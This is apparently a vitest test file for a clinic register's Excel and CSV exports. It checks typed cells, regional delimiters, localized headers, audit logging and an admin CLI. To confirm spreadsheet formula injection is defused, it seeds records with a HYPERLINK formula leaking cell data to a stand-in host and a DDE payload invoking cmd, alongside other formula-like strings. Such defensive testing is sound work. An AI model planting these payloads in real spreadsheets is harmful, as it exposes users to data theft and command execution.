import { execFile } from 'node:child_process'
import { existsSync, readFileSync, statSync } from 'node:fs'
import { join } from 'node:path'
import { promisify } from 'node:util'
import ExcelJS from 'exceljs'
import Papa from 'papaparse'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import type { ExportKind } from '../../src/shared/contract/desktop-calls'
import type { ClinicCountry } from '../../src/shared/clinic/clinic-country'
import { COMMAS_AND_POINTS, csvConventionsFor, SEMICOLONS_AND_DECIMAL_COMMAS } from '../../src/shared/clinic/spreadsheet-region'
import { seedDemoRegister } from '../../src/main/cli/seed-demo'
import { exportToFile } from '../../src/main/exchange/export-file'
import { EXPORT_SLICE_ROWS, exportFormatOf, type ExportFormat } from '../../src/main/exchange/export-tables'
import { openTempRegister, steppingClock, type TempRegister } from '../support/temp-register'
import { root } from '../support/node-script'
import { setWordsLanguage } from '../../src/shared/words/words-language'

// The register's two exports read back as a person's spreadsheet would read them: an .xlsx
// workbook cell by cell with exceljs (each cell's type, the header, the frozen pane, the
// filter), and CSV files as Excel splits them in the clinic's region.

let register: TempRegister
beforeEach(async () => {
  register = await openTempRegister({ clock: steppingClock() })
})
afterEach(() => register.close())

const HOSTILE_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'

/** Zoë, whose given name an older version or another tool saved as a formula; a second client with none of the optional details; a treatment of two zones. */
async function registerWithHostileText() {
  const zoe = await register.ok('clients.create', {
    givenName: 'Zoë',
    familyName: 'Łukasiewicz',
    dateOfBirth: '1985-03-27',
    phone: '+44 7700 900123',
    email: 'zoe@example.com',
    notes: '@SUM(1+1)*cmd|" /C calc"!A0'
  })
  // Names are letters only in the form; the export must hold whatever the register holds.
  await register.database.db.updateTable('clients').set({ given_name: HOSTILE_NAME }).where('id', '=', zoe.id).execute()
  const mark = await register.ok('clients.create', { givenName: 'Mark', familyName: 'Benson' })
  const treatment = await register.ok('treatments.create', {
    clientId: zoe.id,
    performedAt: '2026-11-20T14:30',
    timeZone: 'Europe/London',
    practitioner: 'Dr Amara Okafor',
    device: '-2+3',
    products: '+SUM(A1:A9)',
    concerns: ['acne_scars', 'texture'],
    zones: [
      { zone: 'cheeks', depthMm: 1.5 },
      { zone: 'forehead', depthMm: 0.25 }
    ],
    sessionNumber: 2
  })
  return { zoe, mark, treatment }
}

async function useClinicCountry(country: ClinicCountry): Promise<void> {
  const settings = await register.ok('settings.get', {})
  await register.ok('settings.update', { ...settings, country })
}

/** Exports as the desk and the CLI do, noting the audit entry's moment: before the file has its name. */
async function exportTo(kind: ExportKind, fileName: string, country: ClinicCountry = 'GB', onRows?: (rows: number) => void) {
  const destination = join(register.dir, fileName)
  const format = exportFormatOf(fileName) as ExportFormat
  let loggedWhile: { partial: boolean; kept: boolean } | undefined
  const rows = await exportToFile(register.database.db, destination, {
    kind,
    format,
    conventions: csvConventionsFor({ country }),
    onRows,
    beforeKeeping: async () => {
      loggedWhile = { partial: existsSync(`${destination}.partial`), kept: existsSync(destination) }
    }
  })
  return { destination, rows, loggedWhile }
}

async function readWorkbook(file: string): Promise<ExcelJS.Worksheet> {
  const workbook = new ExcelJS.Workbook()
  await workbook.xlsx.readFile(file)
  expect(workbook.worksheets).toHaveLength(1)
  return workbook.worksheets[0] as ExcelJS.Worksheet
}

/** Every cell of the sheet that holds something, row by row. */
function cellsOf(sheet: ExcelJS.Worksheet): ExcelJS.Cell[] {
  const cells: ExcelJS.Cell[] = []
  sheet.eachRow({ includeEmpty: true }, (row) => row.eachCell((cell) => void cells.push(cell)))
  return cells
}

/** A row's cells by their column's header. */
function rowByHeader(sheet: ExcelJS.Worksheet, rowNumber: number): Record<string, ExcelJS.Cell> {
  const header = sheet.getRow(1)
  const row = sheet.getRow(rowNumber)
  return Object.fromEntries(Array.from({ length: sheet.columnCount }, (_, index) => [header.getCell(index + 1).text, row.getCell(index + 1)]))
}

const { ValueType } = ExcelJS

describe('an Excel workbook export', () => {
  it('holds typed cells: dates as dates, depths and sessions as numbers, text as text and never a formula', async () => {
    const { zoe, mark, treatment } = await registerWithHostileText()
    const clients = await exportTo('clients', 'clients.xlsx')
    expect(clients.rows).toBe(2)
    const sheet = await readWorkbook(clients.destination)
    expect(sheet.name).toBe('Clients')

    // The header row: every column named, in bold, frozen in view, with a filter over every row.
    const header = sheet.getRow(1)
    expect(Array.from({ length: sheet.columnCount }, (_, index) => header.getCell(index + 1).text)).toEqual([
      'id', 'given_name', 'family_name', 'date_of_birth', 'phone', 'email', 'skin_type', 'language', 'notes', 'archived', 'created_at', 'updated_at'
    ])
    expect(header.getCell(1).font?.bold).toBe(true)
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1, topLeftCell: 'A2' })
    expect(sheet.autoFilter).toBe('A1:L3')
    expect(sheet.rowCount).toBe(3)

    const first = rowByHeader(sheet, 2)
    expect(first.id?.text).toBe(zoe.id)
    // The formula a client's name holds is that name, as text: no cell of the workbook is a formula.
    expect(first.given_name?.type).toBe(ValueType.RichText)
    expect(first.given_name?.text).toBe(HOSTILE_NAME)
    expect(first.given_name?.numFmt).toBe('@')
    expect(first.notes?.text).toBe('@SUM(1+1)*cmd|" /C calc"!A0')
    // As the register keeps it (E.164), which SMS and phone tools read whatever the country.
    expect(first.phone?.text).toBe('+447700900123')
    expect(first.family_name?.text).toBe('Łukasiewicz')
    expect(first.date_of_birth?.type).toBe(ValueType.Date)
    expect(first.date_of_birth?.value).toEqual(new Date(Date.UTC(1985, 2, 27)))
    expect(first.date_of_birth?.numFmt).toBe('yyyy-mm-dd')
    expect(first.created_at?.type).toBe(ValueType.Date)
    expect(first.created_at?.value).toEqual(new Date(zoe.createdAt))
    expect(first.archived?.text).toBe('no')
    // Nothing given, nothing written: an empty cell, not an empty string.
    const second = rowByHeader(sheet, 3)
    expect(second.given_name?.text).toBe(mark.givenName)
    expect(second.date_of_birth?.type).toBe(ValueType.Null)
    expect(second.email?.type).toBe(ValueType.Null)
    const everyCell = cellsOf(sheet)
    expect(everyCell.length).toBeGreaterThan(20)
    expect(everyCell.filter((cell) => cell.type === ValueType.Formula || cell.formula !== undefined)).toEqual([])
    expect(new Set(everyCell.map((cell) => cell.type))).toEqual(new Set([ValueType.RichText, ValueType.Date]))

    const treatments = await exportTo('treatments', 'treatments.xlsx')
    const treatmentSheet = await readWorkbook(treatments.destination)
    expect(treatmentSheet.name).toBe('Treatments')
    expect(treatmentSheet.autoFilter).toBe('A1:O2')
    const row = rowByHeader(treatmentSheet, 2)
    expect(row.id?.text).toBe(treatment.id)
    expect(row.client_given_name?.text).toBe(HOSTILE_NAME)
    // 14:30 in London as the clinic's clock showed it; its zone beside it.
    expect(row.performed_at?.type).toBe(ValueType.Date)
    expect(row.performed_at?.value).toEqual(new Date(Date.UTC(2026, 10, 20, 14, 30)))
    expect(row.performed_at?.numFmt).toBe('yyyy-mm-dd hh:mm')
    expect(row.time_zone?.text).toBe('Europe/London')
    expect(row.zones_mm?.text).toBe('cheeks=1.5; forehead=0.25')
    expect(row.deepest_mm?.type).toBe(ValueType.Number)
    expect(row.deepest_mm?.value).toBe(1.5)
    expect(row.session_number?.type).toBe(ValueType.Number)
    expect(row.session_number?.value).toBe(2)
    expect(row.device?.text).toBe('-2+3')
    expect(row.products?.text).toBe('+SUM(A1:A9)')
    expect(row.concerns?.text).toBe('acne_scars; texture')
    expect(cellsOf(treatmentSheet).filter((cell) => cell.type === ValueType.Formula || cell.formula !== undefined)).toEqual([])
  })

  it('writes depths in the zones text with the region’s decimal mark, and the deepest as the same number', async () => {
    await registerWithHostileText()
    const { destination } = await exportTo('treatments', 'behandlungen.XLSX', 'DE')
    const row = rowByHeader(await readWorkbook(destination), 2)
    expect(row.zones_mm?.text).toBe('cheeks=1,5; forehead=0,25')
    expect(row.deepest_mm?.value).toBe(1.5)
  })

  it('is written aside, logged, then kept for this computer account alone, a slice at a time', async () => {
    await seedDemoRegister(register.database, { clients: 450, seed: 17 })
    const expected = await register.database.db.selectFrom('treatments').select('id').orderBy('performed_at_utc').orderBy('id').execute()
    const progress: number[] = []
    const { destination, rows, loggedWhile } = await exportTo('treatments', 'all-treatments.xlsx', 'GB', (written) => progress.push(written))
    expect(rows).toBe(expected.length)
    expect(loggedWhile).toEqual({ partial: true, kept: false })
    expect(existsSync(`${destination}.partial`)).toBe(false)
    expect(statSync(destination).mode & 0o777).toBe(0o600)
    expect(progress).toHaveLength(Math.ceil(expected.length / EXPORT_SLICE_ROWS))
    expect(progress.at(-1)).toBe(expected.length)
    const sheet = await readWorkbook(destination)
    expect(sheet.rowCount).toBe(expected.length + 1)
    expect(sheet.autoFilter).toBe(`A1:O${expected.length + 1}`)
    const ids: string[] = []
    sheet.eachRow((row, number) => number > 1 && ids.push(row.getCell(1).text))
    expect(ids).toEqual(expected.map(({ id }) => id))
  })

  it('leaves nothing behind when it cannot be written', async () => {
    await registerWithHostileText()
    const destination = join(register.dir, 'no-such-folder', 'clients.xlsx')
    await expect(
      exportToFile(register.database.db, destination, { kind: 'clients', format: 'xlsx', conventions: COMMAS_AND_POINTS, beforeKeeping: async () => undefined })
    ).rejects.toThrow(/ENOENT/)
    // Logging refused (the audit log cannot be written): the whole file was written, and is removed.
    const refused = join(register.dir, 'refused.xlsx')
    await expect(
      exportToFile(register.database.db, refused, {
        kind: 'clients',
        format: 'xlsx',
        conventions: COMMAS_AND_POINTS,
        beforeKeeping: () => Promise.reject(new Error('audit log unavailable'))
      })
    ).rejects.toThrow('audit log unavailable')
    expect(existsSync(refused)).toBe(false)
    expect(existsSync(`${refused}.partial`)).toBe(false)
  })
})

describe("a CSV export in the clinic's region", () => {
  /** The file as Excel in that region reads it: split at its delimiter, after the byte order mark. */
  function readCsv(file: string, delimiter: string): Record<string, string>[] {
    const text = readFileSync(file, 'utf8')
    expect(text.startsWith('\uFEFF'), 'a byte order mark, so Excel reads UTF-8').toBe(true)
    return Papa.parse<Record<string, string>>(text.slice(1), { header: true, skipEmptyLines: true, delimiter }).data
  }

  it('for a German clinic, opens as columns: semicolons between values, decimal commas, ISO dates, formulas defused', async () => {
    const { zoe, treatment } = await registerWithHostileText()
    await useClinicCountry('DE')
    expect(csvConventionsFor(await register.ok('settings.get', {}))).toEqual(SEMICOLONS_AND_DECIMAL_COMMAS)

    const treatments = await exportTo('treatments', 'behandlungen.csv', 'DE')
    const text = readFileSync(treatments.destination, 'utf8')
    expect(text.split('\r\n')[0]).toBe(
      '\uFEFFid;client_id;client_given_name;client_family_name;performed_at;time_zone;zones_mm;deepest_mm;practitioner;device;concerns;products;notes;session_number;created_at'
    )
    const [row] = readCsv(treatments.destination, ';')
    expect(row).toMatchObject({
      id: treatment.id,
      client_id: zoe.id,
      performed_at: '2026-11-20T14:30',
      zones_mm: 'cheeks=1,5; forehead=0,25',
      deepest_mm: '1,5',
      session_number: '2',
      client_given_name: `'${HOSTILE_NAME}`,
      device: "'-2+3",
      products: "'+SUM(A1:A9)",
      concerns: 'acne_scars; texture'
    })
    // A value holding the delimiter is quoted, so it stays one column.
    expect(text).toContain(';"cheeks=1,5; forehead=0,25";1,5;')

    // The contract's call (the window's, and the tests' loopback desk) writes the same file.
    expect((await register.ok('exports.treatmentsCsv', {})).csv).toBe(text)
    const clients = readCsv((await exportTo('clients', 'kunden.csv', 'DE')).destination, ';')
    expect(clients.map((client) => [client.family_name, client.date_of_birth, client.phone, client.notes])).toEqual([
      ['Łukasiewicz', '1985-03-27', "'+447700900123", `'@SUM(1+1)*cmd|" /C calc"!A0`],
      ['Benson', '', '', '']
    ])
  })

  it('for French and Spanish clinics too; for a British one, commas and decimal points as before', async () => {
    await registerWithHostileText()
    for (const country of ['FR', 'ES'] as const) {
      await useClinicCountry(country)
      expect((await register.ok('exports.treatmentsCsv', {})).csv.split('\r\n')[1]).toMatch(/;"cheeks=1,5; forehead=0,25";1,5;/)
    }
    await useClinicCountry('GB')
    const { csv } = await register.ok('exports.treatmentsCsv', {})
    expect(csv.split('\r\n')[0]).toBe(
      '\uFEFFid,client_id,client_given_name,client_family_name,performed_at,time_zone,zones_mm,deepest_mm,practitioner,device,concerns,products,notes,session_number,created_at'
    )
    const [row] = Papa.parse<Record<string, string>>(csv.slice(1), { header: true, skipEmptyLines: true }).data
    expect(row).toMatchObject({ zones_mm: 'cheeks=1.5; forehead=0.25', deepest_mm: '1.5', performed_at: '2026-11-20T14:30' })
    expect((await register.ok('audit.list', { action: 'export' })).map((entry) => entry.details)).toEqual(
      Array(3).fill({ what: 'treatments csv', rows: 1 })
    )
  })
})

describe("headers in the desk's language", () => {
  afterEach(() => setWordsLanguage('en'))

  it('names the columns and the sheet in Spanish, French or German, whatever the clinic’s region', async () => {
    await registerWithHostileText()
    const headersOf = async (kind: ExportKind): Promise<string> => (await register.ok(`exports.${kind}Csv`, {})).csv.slice(1).split('\r\n')[0] as string
    setWordsLanguage('es')
    expect(await headersOf('clients')).toBe(
      'ID,Nombre,Apellidos,Fecha de nacimiento,Teléfono,Correo electrónico,Fototipo,Idioma,Notas,Archivado,Creado (UTC),Modificado (UTC)'
    )
    setWordsLanguage('fr')
    expect(await headersOf('treatments')).toBe(
      'ID,ID du client,Prénom du client,Nom du client,Date et heure,Fuseau horaire,Zones (mm),Profondeur maximale (mm),Praticien,Appareil,Indications,Produits,Remarques,N° de séance,Créé le (UTC)'
    )
    setWordsLanguage('de')
    await useClinicCountry('DE')
    expect(await headersOf('clients')).toBe(
      'ID;Vorname;Nachname;Geburtsdatum;Telefon;E-Mail;Hauttyp;Sprache;Notizen;Archiviert;Angelegt am (UTC);Geändert am (UTC)'
    )
    const sheet = await readWorkbook((await exportTo('treatments', 'behandlungen.xlsx', 'DE')).destination)
    expect(sheet.name).toBe('Behandlungen')
    expect(rowByHeader(sheet, 2)['Maximale Tiefe (mm)']?.value).toBe(1.5)
  })

  it('a client list exported in German imports back into another register, every field found by its header', async () => {
    const { mark } = await registerWithHostileText()
    await register.ok('clients.setArchived', { id: mark.id, archived: true })
    setWordsLanguage('de')
    await useClinicCountry('DE')
    const exported = readFileSync((await exportTo('clients', 'kunden.csv', 'DE')).destination)
    // Archived or not in German; the import leaves that column unread: a client comes in active.
    const archivedCells = exported.toString('utf8').split('\r\n').slice(1).map((line) => line.split(';')[9])
    expect(archivedCells).toEqual(['nein', 'ja'])
    const other = await openTempRegister({ clock: steppingClock() })
    try {
      const input = { file: new Uint8Array(exported), fileName: 'kunden.csv' }
      const preview = await other.ok('imports.previewClientsCsv', input)
      expect(preview.mapping).toEqual({
        givenName: 'Vorname',
        familyName: 'Nachname',
        dateOfBirth: 'Geburtsdatum',
        phone: 'Telefon',
        email: 'E-Mail',
        skinType: 'Hauttyp',
        language: 'Sprache',
        notes: 'Notizen'
      })
      const report = await other.ok('imports.clientsCsv', input)
      expect(report).toMatchObject({ imported: 1, errors: [{ row: 2 }] }) // Zoë's name, saved as a formula, is no name
      const [mark] = await other.ok('clients.list', {})
      expect(mark).toMatchObject({ givenName: 'Mark', familyName: 'Benson', language: 'en' })
    } finally {
      await other.close()
    }
  })
})

describe('the admin CLI', () => {
  /** `npm run -s admin -- --db REGISTER ...` in a child process, as the clinic's IT person runs it. */
  async function admin(...args: string[]): Promise<{ code: number; stdout: string; stderr: string }> {
    const command = [join(root, 'scripts', 'admin.mjs'), '--db', register.location, ...args]
    return promisify(execFile)(process.execPath, command, { cwd: root }).then(
      ({ stdout, stderr }) => ({ code: 0, stdout, stderr }),
      (failed: { code: number; stdout: string; stderr: string }) => failed
    )
  }

  it('exports a workbook or a CSV file by the extension, in the clinic’s region, and refuses any other name', async () => {
    await registerWithHostileText()
    await useClinicCountry('FR')
    const workbook = join(register.dir, 'clients.xlsx')
    const csv = join(register.dir, 'soins.csv')
    const exported = await admin('export', '--clients', workbook, '--treatments', csv)
    expect(exported.stderr).toBe('')
    expect(JSON.parse(exported.stdout)).toEqual({
      clients: { file: workbook, format: 'xlsx', rows: 2 },
      treatments: { file: csv, format: 'csv', rows: 1 }
    })
    expect(rowByHeader(await readWorkbook(workbook), 2).date_of_birth?.value).toEqual(new Date(Date.UTC(1985, 2, 27)))
    expect(readFileSync(csv, 'utf8')).toContain(';"cheeks=1,5; forehead=0,25";1,5;')
    expect(statSync(workbook).mode & 0o777).toBe(0o600)
    expect((await register.ok('audit.list', { action: 'export' })).map((entry) => entry.details)).toEqual([
      { what: 'treatments csv', rows: 1 },
      { what: 'clients xlsx', rows: 2 }
    ])

    const refused = await admin('export', '--clients', join(register.dir, 'clients.txt'))
    expect(refused).toMatchObject({ code: 1, stdout: '' })
    expect(refused.stderr.trim()).toMatch(/^Name the file .*clients\.txt with \.xlsx \(an Excel workbook\) or \.csv at the end\.$/)
    const nowhere = await admin('export', '--clients', join(register.dir, 'gone', 'clients.xlsx'))
    expect(nowhere).toMatchObject({ code: 1, stdout: '' })
    expect(nowhere.stderr.trim().split('\n')).toHaveLength(1)
    expect(nowhere.stderr).toMatch(/^Could not save .*clients\.xlsx/)
    expect(await register.ok('audit.list', { action: 'export' })).toHaveLength(2)
  })
})
